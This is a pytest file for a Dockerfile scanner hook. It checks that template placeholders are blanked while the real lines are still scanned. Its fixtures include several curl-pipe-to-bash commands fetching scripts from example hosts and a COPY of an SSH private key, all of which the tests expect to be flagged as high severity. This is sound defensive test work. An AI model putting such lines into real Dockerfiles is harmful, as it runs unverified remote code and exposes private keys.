"""Dockerfile templates: placeholder-only lines are blanked, the rest is checked, one low note."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from hooks._core.policy import Policy
from hooks._core.severity import Severity
from hooks.docker.spec import SPEC as DOCKER_SPEC
from hooks.docker.template import blank_placeholders
from tests.scanning import findings_of


def _findings(tmp_path: Path, text: str) -> list[tuple[str, int, Severity]]:
    path = tmp_path / "Dockerfile.test-nb"
    path.write_text(text)
    return [(f.rule_id, f.line, f.severity) for f in findings_of(DOCKER_SPEC, path, path.name, Policy(root=tmp_path))]


def test_a_template_is_checked_around_its_placeholders(tmp_path: Path) -> None:
    text = "FROM python:3.11\n{args}\n{{ extra_steps }}\n{% if gpu %}\nRUN curl -sSL https://x.example/i.sh | bash\n"
    found = _findings(tmp_path, text)
    assert ("MLS909", 2, Severity.LOW) in found
    assert ("MLS503", 5, Severity.HIGH) in found  # the fixed lines are still judged
    assert not any(rule == "MLS909" and severity.rank >= Severity.MEDIUM.rank for rule, _, severity in found)


def test_a_placeholder_inside_an_instruction_is_no_template_line(tmp_path: Path) -> None:
    # `RUN jupyter ... {notebook}` parses as an instruction: no template note, nothing blanked.
    found = _findings(tmp_path, "FROM python:3.11\nRUN jupyter nbconvert --execute {notebook}\n")
    assert not any(rule == "MLS909" for rule, _, _ in found)


def test_a_line_that_is_no_placeholder_still_fails_closed(tmp_path: Path) -> None:
    found = _findings(tmp_path, "FROM python:3.11\n{args}\n--flag value\n")
    assert [(rule, severity.rank >= Severity.MEDIUM.rank) for rule, _, severity in found] == [("MLS909", True)]


def test_a_placeholder_ending_a_continuation_does_not_swallow_the_next_instruction(tmp_path: Path) -> None:
    text = (
        "{% if gpu %}\nFROM python:3.11\nRUN pip install --no-cache-dir \\\n"
        "    {{ requirements }}\nCOPY id_rsa /root/.ssh/id_rsa\n"
    )
    found = _findings(tmp_path, text)
    assert ("MLS507", 5, Severity.HIGH) in found


def test_a_control_tag_inside_a_continuation_lets_it_go_on(tmp_path: Path) -> None:
    """Jinja writes nothing for `{% else %}`/`{% endif %}`, so `RUN a && \\` goes on past them: both
    branches are read as one command line, and what follows the tags is still that RUN."""
    text = (
        "FROM python:3.11\n{% if env.conda_file %}\nRUN conda create -f env.yml -q && \\\n{% else %}\n"
        "RUN conda create -n app python=3.9 -q -y && \\\n{% endif %}\n"
        "    conda run -n app curl -fsSL https://get.example.com/i.sh | bash\nUSER app\n"
    )
    found = _findings(tmp_path, text)
    assert ("MLS503", 3, Severity.HIGH) in found  # the pipe into a shell, in the joined RUN
    assert not any(rule == "MLS909" and severity.rank >= Severity.MEDIUM.rank for rule, _, severity in found)
    # A variable ending the continuation is a word of it: the next line is an instruction of its own.
    word = "FROM python:3.11\nRUN pip install \\\n{{ packages }}\n    conda run -n app x\n"
    blocking = [rule for rule, _, severity in _findings(tmp_path, word) if severity.rank >= Severity.MEDIUM.rank]
    assert "MLS909" in blocking


def test_an_instruction_between_control_tags_is_checked(tmp_path: Path) -> None:
    text = "FROM python:3.11\n{% if debug %}RUN curl -fsSL https://get.example.com/d.sh | bash{% endif %}\n"
    assert ("MLS503", 2, Severity.HIGH) in _findings(tmp_path, text)
    erb = "FROM python:3.11\n<% if gpu %>RUN curl -fsSL https://get.example.com/d.sh | bash<% end %>\n"
    assert ("MLS503", 2, Severity.HIGH) in _findings(tmp_path, erb)


def test_an_expression_with_a_literal_is_no_placeholder(tmp_path: Path) -> None:
    found = _findings(tmp_path, "{% if x %}\nFROM python:3.11\n{{ 'RUN curl https://x.example/i | sh' }}\n")
    assert [(rule, severity.rank >= Severity.MEDIUM.rank) for rule, _, severity in found] == [("MLS909", True)]


def test_blanking_keeps_every_other_line() -> None:
    text = "FROM x\n  {pip}  \nRUN a {b}\n${EXTRA}\n<%= steps %>\n{{ pkgs | join(' ') }}\n"
    blanked, lines = blank_placeholders(text)
    assert lines == [2, 4, 5, 6]
    assert blanked.split("\n")[0] == "FROM x" and blanked.split("\n")[2] == "RUN a {b}"


@given(st.text(alphabet=st.sampled_from(list("{}%$<>= \n\tabcRUN{{}}_.")), max_size=300))
def test_blanking_garbage_keeps_the_line_count(text: str) -> None:
    blanked, lines = blank_placeholders(text)
    assert blanked.count("\n") == text.count("\n")
    assert all(1 <= n <= text.count("\n") + 1 for n in lines)


def test_a_base_image_placeholder_leaves_the_stage_read(tmp_path: Path) -> None:
    text = "FROM {{ base_image_name_and_tag }} AS server\nRUN curl -sSL https://x.example/i.sh | bash\n"
    found = _findings(tmp_path, text)
    assert ("MLS909", 1, Severity.LOW) in found  # the template note names the FROM line
    assert ("MLS503", 2, Severity.HIGH) in found
    assert not any(rule == "MLS501" for rule, _, _ in found)  # the generator names the image


def test_a_base_image_expression_with_a_literal_is_no_placeholder(tmp_path: Path) -> None:
    found = _findings(tmp_path, "FROM {{ 'python' + x }} AS server\nRUN echo\n")
    assert [(rule, severity.rank >= Severity.MEDIUM.rank) for rule, _, severity in found] == [("MLS909", True)]
